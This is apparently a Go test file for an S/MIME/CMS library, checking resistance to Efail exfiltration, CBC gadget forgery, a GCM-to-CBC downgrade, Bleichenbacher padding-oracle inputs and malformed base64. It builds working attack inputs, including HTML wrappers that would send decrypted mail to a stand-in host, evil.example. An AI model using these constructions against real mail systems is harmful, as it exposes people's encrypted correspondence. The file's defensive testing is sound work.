package cms

import (
	"bytes"
	"crypto"
	"crypto/aes"
	"crypto/rand"
	"crypto/rsa"
	"encoding/base64"
	"errors"
	"io"
	"math/big"
	"runtime"
	"strings"
	"testing"
)

// Poddebniak et al., "Efail: Breaking S/MIME and OpenPGP Email Encryption using
// Exfiltration Channels", USENIX Security 2018.

// TestHostileExfiltration wraps a sealed letter in parts that would carry its text
// away (section 4, direct exfiltration), unsigned and signed by an attacker who is
// trusted. The letter is not opened in such a place.
func TestHostileExfiltration(t *testing.T) {
	p := testPKI()
	const zoe = "zoe.lamy@medecin.example"
	sealed := string(EncryptedEntity(must[[]byte](t)(Encrypt(signedEntity(t, p.p256.signer(), true), Recipient{p.p384.cert, ECDHCBC}))))
	part := func(kind, s string) string { return "--m\r\nContent-Type: " + kind + "\r\n\r\n" + s + "\r\n" }
	image := part("text/html", "<img src=\"http://evil.example/") + "--m\r\n" + sealed + "\r\n" + part("text/html", "\">") + "--m--\r\n"
	wraps := map[string]string{
		"mixed":       "Content-Type: multipart/mixed; boundary=m\r\n\r\n" + image,
		"alternative": "Content-Type: multipart/alternative; boundary=m\r\n\r\n" + image,
		"related":     "Content-Type: multipart/related; boundary=m\r\n\r\n" + image,
		"forwarded":   "Content-Type: message/rfc822\r\n\r\n" + sealed,
		"encrypted":   "Content-Type: multipart/encrypted; boundary=m; protocol=\"application/pkcs7-mime\"\r\n\r\n" + image,
		"html around": "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n" + sealed + "\">\r\n",
	}
	for name, w := range wraps {
		r := reader(p, p.p384.key, p.p384)
		if o, err := r.Open(mailFrom(zoe, []byte(w))); err != ErrNotSMIME || o.Entity != nil {
			t.Errorf("%s: got %v", name, err)
		}
		// Inside an encryption of the attacker's own.
		der := must[[]byte](t)(Encrypt([]byte(w), Recipient{p.p384.cert, ECDHCBC}))
		if o, err := r.Open(mailFrom(zoe, EncryptedEntity(der))); err != ErrUnsigned || o.Entity != nil {
			t.Errorf("%s, sealed: got %v", name, err)
		}
		// Signed by the attacker it opens as what it is: the sealed part stays sealed.
		der = must[[]byte](t)(Seal([]byte(w), Opaque, p.p256b.signer(), at, Recipient{p.p384.cert, ECDHCBC}))
		o := must[Opened](t)(r.Open(mailFrom(zoe, EncryptedEntity(der))))
		if string(o.Entity) != w || strings.Contains(string(o.Entity), "Essai de lettre") {
			t.Errorf("%s, signed: something was opened inside", name)
		}
	}
}

// gadget turns a known block into any other (section 5.1): with the plaintext of
// block i known, C[i-1] xor known xor wanted, C[i] decrypts to wanted.
func gadget(before, known, wanted, block []byte) []byte {
	out := make([]byte, 2*aes.BlockSize)
	for i := range aes.BlockSize {
		out[i] = before[i] ^ known[i] ^ wanted[i]
	}
	copy(out[aes.BlockSize:], block)
	return out
}

// TestHostileGadgets puts chosen blocks before, into and behind the ciphertext of a
// letter whose first blocks are known, as they are in all S/MIME.
func TestHostileGadgets(t *testing.T) {
	p := testPKI()
	r := reader(p, p.p256b.key, p.p256b)
	const size = aes.BlockSize
	wanted := []byte("Content-Type: te")
	for _, opaque := range []bool{true, false} {
		entity := signedEntity(t, p.p256.signer(), opaque)
		n := parseTree(t, must[[]byte](t)(Encrypt(entity, Recipient{p.p256b.cert, ECDHCBC})))
		iv, content := n.at(1, 0, 2, 1, 1), n.at(1, 0, 2, 2)
		whole, first := bytes.Clone(content.content), bytes.Clone(iv.content)
		open := func(where string, plainMustHold []byte) {
			t.Helper()
			der := n.der()
			if plain, err := Decrypt(der, p.p256b.key, p.p256b.cert); err == nil && !bytes.Contains(plain, plainMustHold) {
				t.Errorf("%s: the gadget of the test is none", where)
			}
			o, err := r.Open(mailFrom("hugo.brun@medecin.example", EncryptedEntity(der)))
			// What opens is the signed part: blocks around it do not reach it.
			if err == nil && string(o.Entity) != letter || err != nil && o.Entity != nil {
				t.Errorf("%s: something else was given out", where)
			}
		}
		g := gadget(first, entity[:size], wanted, whole[:size])
		for at := 0; at <= len(whole); at += size {
			iv.content = first
			content.content = append(append(append([]byte{}, whole[:at]...), g...), whole[at:]...)
			open("in the midst", wanted)
		}
		// The first block itself, by the initialisation vector: nothing else is garbled.
		iv.content, content.content = g[:size], whole
		open("the first block", wanted)
		// The letter as a tail behind chosen blocks that open a link.
		iv.content = g[:size]
		content.content = append(append([]byte{}, whole[:size]...), append(g, whole...)...)
		open("before", wanted)
		// Any one block left out, or two exchanged.
		iv.content = first
		for at := size; at+size <= len(whole); at += size {
			content.content = append(append([]byte{}, whole[:at]...), whole[at+size:]...)
			open("left out", nil)
			content.content = append(append(append([]byte{}, whole[at:at+size]...), whole[:at]...), whole[at+size:]...)
			open("moved to the front", nil)
		}
	}
}

// TestHostileDowngrade relabels GCM content as CBC (RFC 9709 1 and the package
// comment): with one known block the counter blocks are known, and through CBC they
// become chosen blocks. The reader of CBC sees them; who opens mail never does.
func TestHostileDowngrade(t *testing.T) {
	p := testPKI()
	entity := signedEntity(t, p.p256.signer(), true)
	n := parseTree(t, must[[]byte](t)(Encrypt(entity, Recipient{p.p256b.cert, ECDHGCM})))
	body := n.at(1, 0)
	nonce, sealed := body.at(2, 1, 1, 0).content, body.at(2, 2).content
	const size = aes.BlockSize
	// Block i of the key stream is the encryption of nonce and counter i+2.
	stream := make([]byte, size)
	for i := range size {
		stream[i] = sealed[i] ^ entity[i]
	}
	counter := append(bytes.Clone(nonce), 0, 0, 0, 2)
	wanted := append([]byte("Subject: chosen"), 1) // ends in a right padding
	iv := make([]byte, size)
	for i := range size {
		iv[i] = counter[i] ^ wanted[i]
	}
	n.at(0).content = derEnvelopedData[2:]
	body.children = body.children[:3]
	body.at(2).children[1] = raw(t, contentCipher{iv: iv}.add)
	body.at(2, 2).content = stream
	der := n.der()
	if plain, err := Decrypt(der, p.p256b.key, p.p256b.cert); err != nil || string(plain) != "Subject: chosen" {
		t.Fatalf("the downgrade of the test is none: %q, %v", plain, err)
	}
	if o, err := reader(p, p.p256b.key, p.p256b).Open(mailFrom("hugo.brun@medecin.example", EncryptedEntity(der))); err != ErrUnsigned || o.Entity != nil {
		t.Errorf("got %v", err)
	}
	// All of the content, relabelled with and without a whole number of blocks.
	for cut := range 2 * size {
		body.at(2, 2).content = sealed[:len(sealed)-cut]
		if o, err := reader(p, p.p256b.key, p.p256b).Open(EncryptedEntity(n.der())); err == nil || o.Entity != nil {
			t.Errorf("%d bytes less: it opens", cut)
		}
	}
}

// tellingToken is a token that says when a padding is wrong.
type tellingToken struct{ key *rsa.PrivateKey }

func (k tellingToken) Public() crypto.PublicKey { return k.key.Public() }

func (k tellingToken) Decrypt(random io.Reader, b []byte, _ crypto.DecrypterOpts) ([]byte, error) {
	//lint:ignore SA1019 what is tested is the reader of such keys
	return rsa.DecryptPKCS1v15(random, k.key, b)
}

// TestHostilePaddings tries the paddings of Bleichenbacher (CRYPTO 1998) and his
// followers: the answer is the same error for each, and in each case the whole
// content was decrypted before it, measured by what that allocates.
func TestHostilePaddings(t *testing.T) {
	p := testPKI()
	pub := p.rsa.cert.PublicKey.(*rsa.PublicKey)
	size := pub.Size()
	key := bytes.Repeat([]byte{7}, 32)
	em := func(prefix []byte, fill byte, zero bool, key []byte) []byte {
		out := bytes.Repeat([]byte{fill}, size)
		copy(out, prefix)
		copy(out[size-len(key):], key)
		if zero {
			out[size-len(key)-1] = 0
		}
		return out
	}
	raw := func(em []byte) []byte {
		return new(big.Int).Exp(new(big.Int).SetBytes(em), big.NewInt(int64(pub.E)), pub.N).FillBytes(make([]byte, size))
	}
	early := em([]byte{0, 2}, 0xaa, true, key)
	early[5] = 0
	cases := map[string][]byte{
		"right padding, another key": raw(em([]byte{0, 2}, 0xaa, true, key)),
		"first byte one":             raw(em([]byte{1, 2}, 0xaa, true, key)),
		"block type 1":               raw(em([]byte{0, 1}, 0xff, true, key)),
		"block type 0":               raw(em([]byte{0, 0}, 0xaa, true, key)),
		"no zero before the key":     raw(em([]byte{0, 2}, 0xaa, false, key)),
		"zero among the first eight": raw(early),
		"key of 31 bytes":            raw(em([]byte{0, 2}, 0xaa, true, key[:31])),
		"key of 33 bytes":            raw(em([]byte{0, 2}, 0xaa, true, append(key, 7))),
		"key of 16 bytes":            raw(em([]byte{0, 2}, 0xaa, true, key[:16])),
		"key of no bytes":            raw(em([]byte{0, 2}, 0xaa, true, nil)),
		"all zero":                   make([]byte, size),
		"one":                        raw(append(make([]byte, size-1), 1)),
		"as large as the modulus":    pub.N.Bytes(),
		"longer than the modulus":    append([]byte{0}, raw(early)...),
		"shorter than the modulus":   raw(early)[:size-1],
		"empty":                      {},
	}
	content := make([]byte, 4<<20)
	rand.Read(content)
	for _, form := range []Form{RSAv15CBC, RSAv15GCM} {
		n := parseTree(t, must[[]byte](t)(Encrypt(content, Recipient{p.rsa.cert, form})))
		for name, encrypted := range cases {
			n.at(1, 0, 1, 0, 3).content = encrypted
			der := n.der()
			for kind, k := range map[string]crypto.PrivateKey{"key": p.rsa.key, "token that tells": tellingToken{p.rsa.key.(*rsa.PrivateKey)}} {
				var got []byte
				var err error
				used := allocated(func() { got, err = Decrypt(der, k, p.rsa.cert) })
				// A random key leaves a right CBC padding in one of 256 cases.
				if err == nil && form == RSAv15CBC && !bytes.Equal(got, content) {
					err = ErrDecrypt
				}
				if err != ErrDecrypt || form == RSAv15GCM && got != nil {
					t.Errorf("%s, %s, %s: got %v", form, name, kind, err)
				}
				if used < uint64(len(content)) {
					t.Errorf("%s, %s, %s: the content was not decrypted, %d bytes allocated", form, name, kind, used)
				}
			}
		}
	}
	// A right key is still found by both.
	n := must[[]byte](t)(Encrypt([]byte(letter), Recipient{p.rsa.cert, RSAv15GCM}))
	if got := must[[]byte](t)(Decrypt(n, tellingToken{p.rsa.key.(*rsa.PrivateKey)}, p.rsa.cert)); string(got) != letter {
		t.Error("came back otherwise")
	}
}

// allocated is how many bytes f allocates in all, freed or not.
func allocated(f func()) uint64 {
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	f()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

// TestHostileWrappedKeys: of ECDH too, a wrong wrapping is ErrDecrypt and no more.
func TestHostileWrappedKeys(t *testing.T) {
	p := testPKI()
	for _, form := range []Form{ECDHCBC, ECDHGCM} {
		n := parseTree(t, must[[]byte](t)(Encrypt([]byte(letter), Recipient{p.p256.cert, form})))
		wrapped := n.at(1, 0, 1, 0, 3, 0, 1)
		good := bytes.Clone(wrapped.content)
		for i := range good {
			wrapped.content = bytes.Clone(good)
			wrapped.content[i] ^= 0x80
			if got, err := Decrypt(n.der(), p.p256.key, p.p256.cert); err != ErrDecrypt || got != nil {
				t.Fatalf("%s, byte %d: got %v", form, i, err)
			}
		}
		for size := range len(good) + 16 {
			if size == len(good) {
				continue
			}
			wrapped.content = append(bytes.Clone(good), make([]byte, 16)...)[:size]
			if got, err := Decrypt(n.der(), p.p256.key, p.p256.cert); err != ErrDecrypt || got != nil {
				t.Fatalf("%s, %d bytes: got %v", form, size, err)
			}
		}
	}
}

// TestHostileTransfer: base64 that two decoders may read differently gives what
// was sealed or nothing.
func TestHostileTransfer(t *testing.T) {
	p := testPKI()
	der := must[[]byte](t)(Encrypt(signedEntity(t, p.p256.signer(), true), Recipient{p.p256b.cert, ECDHCBC}))
	body := base64.StdEncoding.EncodeToString(der)
	for name, c := range map[string]struct {
		encoding, body string
		opens          bool
	}{
		"one line":              {"base64", body, true},
		"blanks at line ends":   {"base64", body[:40] + " \t\r\n" + body[40:], true},
		"in capitals":           {"BASE64", body, true},
		"nothing":               {"base64", "", false},
		"padding in the midst":  {"base64", body[:40] + "====" + body[40:], false},
		"a second message":      {"base64", body + "\r\n" + body, false},
		"text behind":           {"base64", body + "\r\nThis list is archived.\r\n", false},
		"a character left out":  {"base64", body[1:], false},
		"alphabet of addresses": {"base64", strings.NewReplacer("+", "-", "/", "_").Replace(body) + "-_", false},
		"NUL":                   {"base64", body[:40] + "\x00" + body[40:], false},
		"binary":                {"binary", string(der), true},
		"binary, one byte more": {"binary", string(der) + "\n", false},
		"quoted-printable":      {"quoted-printable", body, false},
		"two encodings":         {"base64, base64", body, false},
		"unknown encoding":      {"x-uuencode", body, false},
	} {
		message := "From: hugo.brun@medecin.example\r\nContent-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: " + c.encoding + "\r\n\r\n" + c.body
		o, err := reader(p, p.p256b.key, p.p256b).Open([]byte(message))
		if (err == nil) != c.opens || err == nil && string(o.Entity) != letter || err != nil && (o.Entity != nil || !errors.Is(err, ErrMalformed)) {
			t.Errorf("%s: got %v", name, err)
		}
	}
}
